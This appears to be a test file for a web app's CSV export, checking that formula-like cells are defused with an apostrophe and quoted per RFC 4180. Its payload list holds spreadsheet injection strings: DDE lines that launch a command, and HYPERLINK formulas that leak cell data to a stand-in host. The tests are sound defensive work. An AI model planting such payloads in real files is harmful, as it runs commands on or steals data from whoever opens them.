// CSV downloads: RFC 4180 quoting, and no cell a spreadsheet would run as a
// formula. The payloads follow OWASP's CSV Injection page and its
// examples (DDE, HYPERLINK, arithmetic that ends in a command), with each
// trigger after leading spaces, quotes, a tab or a CR.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, toCsv } from '../../www/views/datatable.js';

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1+HYPERLINK("https://example.invalid/?"&A1,"x")',
  '=HYPERLINK("https://example.invalid/?leak="&A1&A2,"Error: please click")',
  '-1-1',
  '+1',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  ' =1+1',
  '   @SUM(A1:A9)',
  '"=1+1',
  "'=1+1",
  ' "-2+3',
];

/** The cell as a spreadsheet reads it: RFC 4180 quotes taken off. */
function unquote(field) {
  return field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
}

test('every formula-like text is prefixed with an apostrophe, whatever comes before its trigger', () => {
  for (const p of PAYLOADS) {
    const cell = unquote(csvField(p));
    assert.ok(cell.startsWith("'"), `${JSON.stringify(p)} became ${JSON.stringify(cell)}`);
    assert.equal(cell.slice(1), p, 'nothing else changes');
  }
});

test('plain text and numbers pass unchanged; negative numbers stay numbers', () => {
  const cases = [
    ['Alibaba', 'Alibaba'],
    ['$50 billion', '$50 billion'],
    ['3-for-1', '3-for-1'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [-2.5, '-2.5'],
    [42, '42'],
    [Number.NaN, ''],
    [null, ''],
    [undefined, ''],
  ];
  for (const [input, want] of cases) assert.equal(csvField(input), want, JSON.stringify(input));
});

test('a whole file: header first, CRLF line ends, every row defused', () => {
  const columns = [{ label: 'Name', value: (r) => r.name }, { label: 'Value', value: (r) => r.value }];
  const csv = toCsv(columns, [{ name: '=1+1', value: -3 }, { name: 'Bob', value: 4 }]);
  assert.equal(csv, "Name,Value\r\n'=1+1,-3\r\nBob,4\r\n");
});
